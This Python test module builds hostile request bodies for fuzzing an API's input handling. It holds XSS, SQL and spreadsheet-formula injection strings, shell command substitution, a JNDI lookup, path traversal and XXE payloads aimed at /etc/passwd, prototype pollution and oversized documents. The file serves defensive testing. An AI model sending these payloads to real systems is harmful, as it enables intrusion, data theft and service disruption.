"""Documents no honest caller sends: what is put into the place of an endpoint's own body."""

import gzip
import json
from collections.abc import Callable, Iterator
from typing import Any, Final

from cartbridge.testing.hostile import BODIES, with_hostile_values

Json = dict[str, Any]

# Texts that mean something to somebody else than a reader: each is put into every text field.
TEXTS: Final = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' autofocus onfocus='alert(1)",
    "svg": "<svg/onload=alert(1)>",
    "comment": "<!--",
    "end of script": "</script></style></textarea></title>",
    "address": "javascript:alert(1)",
    "entity": "&lt;b&gt; &#x3c;b&#x3e; &amp;amp;",
    "template": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "python format": "{0.__class__} %s %(x)s {} %n",
    "SQL": "'; drop table event; --",
    "SQL comment": "1 or 1=1 /* */ \\'",
    "formula": '=HYPERLINK("https://x","y")',
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)",
    "formula by minus": "-1+1",
    "header": "x\r\nSet-Cookie: a=b",
    "log line": "x\n2026-11-20 [info] tenant.removed",
    "tab": "\tx",
    "bell and escape": "\x07\x1b[31mred\x1b[0m",
    "right to left": "\u202egnp.exe\u202c",
    "isolates": "\u2066\u2067a\u2069\u2069",
    "zero width": "LAMP\u200b\u200c\u200d\ufeffOAK",
    "homoglyphs": "\u0420\u0410\u0423\u0420\u0410L",
    "combining": "e" + "\u0301" * 150,
    "astral": "\U0001f4a3\U000e0041",
    "not a character": "\uffff\ufdd0",
    "line separators": "a\u2028b\u2029c\u0085d",
    "digits of others": "\u0661\u0662\u0663",
    "path": "../../../../etc/passwd",
    "shell": "$(touch /tmp/x) `id` | cat",
    "lookup": "${jndi:ldap://x/a}",
    "NUL": "a\u0000b",
    "space": " ",
    "long": "x" * 70_000,
}
WHOLE: Final = {
    "CRLF only": b"\r\n\r\n",
    "a form": b"a=1&b=2",
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a pickle": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x01a\x94.",
    "gzip": gzip.compress(b"{}", mtime=0),
    "single quotes": b"{'a': 1}",
    "a comment": b'{"a": 1 /* one */}',
    "trailing comma": b'{"a": 1,}',
    "two documents": b'{"a": 1}{"b": 2}',
    "lines of documents": b'{"a": 1}\n{"b": 2}\n',
    "true": b"true",
    "Infinity": b"Infinity",
    "UTF-32": '{"a": 1}'.encode("utf-32"),
    "UTF-7": b"+AHsAIgBhACIAOgAxAH0-",
    "overlong UTF-8": b'{"a": "\xc0\xaf"}',
    "a surrogate in UTF-8": b'{"a": "\xed\xa0\x80"}',
    "a prototype": b'{"__proto__": {"admin": true}, "constructor": {}}',
    "a class": b'{"__class__": "os.system", "__init__": []}',
    "an empty name": b'{"": {"": {"": 1}}}',
    "deep objects": b'{"a":' * 100 + b"1" + b"}" * 100,
    "many names": json.dumps({f"n{n}": n for n in range(4000)}).encode(),
    "a huge text": b'{"a": "' + b"x" * 60_000 + b'"}',
    "a huge exponent": b'{"a": 1e999999999}',
    "a huge negative": b'{"a": -' + b"9" * 5000 + b"}",
}


def documents(body: Json) -> dict[str, bytes]:
    """Every hostile document for an endpoint that takes such a body."""
    found = {f"body {number}": raw for number, raw in enumerate(BODIES)}
    found |= WHOLE
    found |= {name: change(body) for name, change in CHANGES.items()}
    found |= {f"text: {name}": encoded(with_text(body, text)) for name, text in TEXTS.items()}
    found |= {f"value {n}": raw for n, raw in enumerate(with_hostile_values(body))}
    return found


def encoded(body: Any) -> bytes:
    """As most callers write it, with what cannot be written as it is escaped."""
    return json.dumps(body, ensure_ascii="\x00" in str(body)).encode("utf-8", "surrogatepass")


def with_text(value: Any, text: str) -> Any:
    """The body with this text in every place where it has one."""
    if isinstance(value, dict):
        return {name: with_text(part, text) for name, part in value.items()}
    if isinstance(value, list):
        return [with_text(part, text) for part in value]
    return text if isinstance(value, str) else value


def numbers(value: Any) -> Iterator[tuple[dict[str, Any], str]]:
    """Where a body holds a number."""
    if isinstance(value, dict):
        for name, part in value.items():
            if isinstance(part, int) and not isinstance(part, bool):
                yield value, name
            yield from numbers(part)
    elif isinstance(value, list):
        for part in value:
            yield from numbers(part)


def _with_numbers(new: Any) -> Callable[[Json], bytes]:
    def change(body: Json) -> bytes:
        copy = json.loads(json.dumps(body))
        for holder, name in list(numbers(copy)):
            holder[name] = new
        return encoded(copy)

    return change


def _with_names(rename: Callable[[str], str]) -> Callable[[Json], bytes]:
    def renamed(value: Any) -> Any:
        if isinstance(value, dict):
            return {rename(name): renamed(part) for name, part in value.items()}
        return [renamed(part) for part in value] if isinstance(value, list) else value

    return lambda body: encoded(renamed(body))


def _with_rows(body: Json) -> bytes:
    copy = dict(body)
    for name, part in body.items():
        if isinstance(part, list) and part:
            copy[name] = [part[0]] * 10_000
    return encoded(copy)


def _twice_named(body: Json) -> bytes:
    text = encoded(body).decode()
    return (text[:-1] + ("," if body else "") + text[1:]).encode()


CHANGES: Final[dict[str, Callable[[Json], bytes]]] = {
    "BOM": lambda body: b"\xef\xbb\xbf" + encoded(body),
    "in UTF-16": lambda body: encoded(body).decode().encode("utf-16"),
    "in UTF-16 without BOM": lambda body: encoded(body).decode().encode("utf-16-le"),
    "NUL behind": lambda body: encoded(body) + b"\0",
    "NUL before": lambda body: b"\0" + encoded(body),
    "half of it": lambda body: encoded(body)[: len(encoded(body)) // 2],
    "twice": lambda body: encoded(body) * 2,
    "each name twice": _twice_named,
    "in a list": lambda body: b"[" + encoded(body) + b"]",
    "as a text": lambda body: encoded(encoded(body).decode()),
    "with a field of nobody": lambda body: encoded({**body, "zz_new": {"a": [1]}}),
    "names in capitals": _with_names(str.upper),
    "names with homoglyphs": _with_names(lambda name: name.translate({97: 1072, 101: 1077})),
    "names with zero width": _with_names(lambda name: name[:1] + "\u200b" + name[1:]),
    "names with spaces": _with_names(lambda name: f" {name} "),
    "numbers negative": _with_numbers(-1),
    "numbers beyond 64 bits": _with_numbers(2**63),
    "numbers of many digits": _with_numbers(10**19),
    "numbers as texts": _with_numbers("1"),
    "numbers as truth": _with_numbers(True),
    "numbers in fractions": _with_numbers(49.9),
    "10 000 rows": _with_rows,
}
